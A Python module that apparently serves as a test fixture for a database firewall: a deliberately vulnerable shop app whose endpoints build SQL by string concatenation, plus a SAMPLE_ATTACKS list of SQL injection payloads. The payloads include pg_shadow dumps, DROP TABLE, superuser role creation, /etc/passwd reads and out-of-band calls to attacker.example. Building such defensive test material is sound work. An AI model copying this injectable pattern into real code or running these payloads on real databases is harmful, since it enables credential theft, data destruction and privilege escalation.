"""A deliberately vulnerable shop application: it pastes user input into SQL text.

Used by the demonstration, the tests and the benchmark. :data:`ENDPOINTS` are the
application's request handlers; each turns its arguments into one SQL statement by string
concatenation, exactly the bug that the database firewall exists to catch. The benign
traffic generator draws fresh literal values from a seeded random source, so learning and
testing can use values that never overlap.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from dataclasses import dataclass

__all__ = [
    "ENDPOINTS",
    "SAMPLE_ATTACKS",
    "SCHEMA",
    "Endpoint",
    "Request",
    "attack_requests",
    "benign_requests",
]

SCHEMA = """
CREATE TABLE users (id serial PRIMARY KEY, name text UNIQUE, email text, password text);
CREATE TABLE products (id serial PRIMARY KEY, name text, category text, price numeric);
CREATE TABLE orders (id serial PRIMARY KEY, user_id int, status text, total numeric,
                     placed date);
CREATE TABLE comments (id serial PRIMARY KEY, product_id int, author text, body text);
INSERT INTO users (name, email, password)
  SELECT 'user' || g, 'user' || g || '@example.com', md5(g::text) FROM generate_series(1, 200) g;
INSERT INTO products (name, category, price)
  SELECT 'product ' || g, (ARRAY['tools','books','garden','toys'])[1 + g % 4], g * 1.5
  FROM generate_series(1, 500) g;
INSERT INTO orders (user_id, status, total, placed)
  SELECT 1 + g % 200, (ARRAY['open','paid','shipped'])[1 + g % 3], g, DATE '2026-01-01' + g % 300
  FROM generate_series(1, 2000) g;
"""


@dataclass(frozen=True, slots=True)
class Endpoint:
    """One request handler: its name, the SQL template, and which holes take text."""

    name: str
    template: str
    text_holes: tuple[str, ...]
    number_holes: tuple[str, ...]

    def render(self, **values: object) -> str:
        return self.template.format(**values)


ENDPOINTS: tuple[Endpoint, ...] = (
    Endpoint("user", "SELECT id, name, email FROM users WHERE id = {id}", (), ("id",)),
    Endpoint(
        "login",
        "SELECT id FROM users WHERE name = '{name}' AND password = md5('{password}')",
        ("name", "password"),
        (),
    ),
    Endpoint(
        "search",
        "SELECT id, name, price FROM products WHERE name ILIKE '%{term}%' "
        "AND category = '{category}' ORDER BY price LIMIT 20",
        ("term", "category"),
        (),
    ),
    Endpoint(
        "orders",
        "SELECT id, total, placed FROM orders WHERE user_id = {uid} AND status = '{status}' "
        "ORDER BY placed DESC LIMIT {limit}",
        ("status",),
        ("uid", "limit"),
    ),
    Endpoint(
        "comment",
        "INSERT INTO comments (product_id, author, body) VALUES ({pid}, '{author}', '{body}')",
        ("author", "body"),
        ("pid",),
    ),
    Endpoint(
        "report",
        "SELECT status, count(*), sum(total) FROM orders WHERE placed >= '{since}' GROUP BY status",
        ("since",),
        (),
    ),
)


@dataclass(frozen=True, slots=True)
class Request:
    endpoint: str
    sql: str
    attack: bool
    family: str = ""
    payload: str = ""


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


_WORDS = _words(
    "garden hose drill hammer novel poetry atlas lamp kite puzzle robot chess union jack "
    "select comfort drop shipping order tracking delete key insert mode update notes "
    "table lamp or gold and silver from paris where wally blue green red large small "
    "ergonomic chair desk cable charger wireless mouse keyboard screen paper pencil"
)
_FIRST = _words("ada alan grace linus ken dennis barbara edsger donald margaret tim guido")
_STATUSES = ("open", "paid", "shipped")
_CATEGORIES = ("tools", "books", "garden", "toys")


def _text(rng: random.Random, words: int) -> str:
    return " ".join(rng.choice(_WORDS) for _ in range(words))


def _benign_values(endpoint: Endpoint, rng: random.Random) -> dict[str, object]:
    n = rng.randrange(10**9)
    gen: dict[str, Callable[[], object]] = {
        "id": lambda: rng.randrange(1, 10**6),
        "uid": lambda: rng.randrange(1, 10**6),
        "pid": lambda: rng.randrange(1, 10**6),
        "limit": lambda: rng.choice((5, 10, 20, 50)),
        "name": lambda: f"{rng.choice(_FIRST)}{n}",
        "password": lambda: f"pw-{n:x}-{rng.choice(_WORDS)}",
        "term": lambda: f"{_text(rng, rng.randrange(1, 3))} {n % 1000}",
        "category": lambda: rng.choice(_CATEGORIES),
        "status": lambda: rng.choice(_STATUSES),
        "author": lambda: f"{rng.choice(_FIRST)}.{n}@example.org",
        "body": lambda: f"{_text(rng, rng.randrange(3, 12))}; rated {n % 5 + 1}/5 ({n}) - thanks!",
        "since": lambda: (
            f"2026-{1 + n % 12:02d}-{1 + n % 28:02d} {n % 86400 // 3600:02d}:"
            f"{n % 3600 // 60:02d}:{n % 60:02d}"
        ),
    }
    return {k: gen[k]() for k in (*endpoint.text_holes, *endpoint.number_holes)}


def benign_requests(count: int, seed: int) -> Iterator[Request]:
    """``count`` ordinary requests spread over every endpoint, with fresh values."""
    rng = random.Random(seed)
    for i in range(count):
        ep = ENDPOINTS[i % len(ENDPOINTS)]
        yield Request(ep.name, ep.render(**_benign_values(ep, rng)), attack=False)


def attack_requests(payloads: list[tuple[str, str]], seed: int = 7) -> Iterator[Request]:
    """One request per ``(family, payload)``: the payload goes into a hole of its kind.

    A payload that opens with a quote is meant for a text hole; any other payload for a
    number hole. The other holes get ordinary values.
    """
    rng = random.Random(seed)
    text_eps = [e for e in ENDPOINTS if e.text_holes]
    number_eps = [e for e in ENDPOINTS if e.number_holes]
    for i, (family, payload) in enumerate(payloads):
        quoted = "'" in payload
        ep = (text_eps if quoted else number_eps)[i % len(text_eps if quoted else number_eps)]
        holes = ep.text_holes if quoted else ep.number_holes
        values = _benign_values(ep, rng)
        values[holes[i % len(holes)]] = payload
        yield Request(ep.name, ep.render(**values), True, family, payload)


#: A small built-in set for the offline demonstration, one family per group.
SAMPLE_ATTACKS: tuple[tuple[str, str], ...] = (
    ("boolean", "1 OR 1=1"),
    ("boolean", "' OR '1'='1"),
    ("boolean", "admin'--"),
    ("boolean", "' OR 'a'='a' --"),
    ("boolean", "1 AND 1=2"),
    ("union", "1 UNION SELECT NULL, version(), NULL"),
    ("union", "' UNION SELECT usename, passwd FROM pg_shadow--"),
    ("union", "0 UNION ALL SELECT table_name, NULL, NULL FROM information_schema.tables"),
    ("stacked", "1; DROP TABLE users"),
    ("stacked", "'; UPDATE users SET password = 'x' WHERE name = 'admin'--"),
    ("stacked", "1; CREATE ROLE evil SUPERUSER LOGIN PASSWORD 'x'"),
    ("time", "1 AND (SELECT 1 FROM pg_sleep(5)) = 1"),
    ("time", "'; SELECT pg_sleep(5)--"),
    ("time", "1 OR pg_sleep(5) IS NULL"),
    ("error", "1 AND 1=CAST((SELECT current_user) AS int)"),
    ("error", "' AND 1=CAST(version() AS numeric)--"),
    ("error", "1 AND (SELECT password FROM users LIMIT 1)::int = 1"),
    ("out-of-band", "1; COPY (SELECT '') TO PROGRAM 'nslookup x.attacker.example'"),
    ("out-of-band", "'; SELECT dblink_connect('host=attacker.example user=a')--"),
    ("out-of-band", "1 UNION SELECT pg_read_file('/etc/passwd'), NULL, NULL"),
    ("out-of-band", "1; SELECT lo_import('/etc/passwd')"),
)
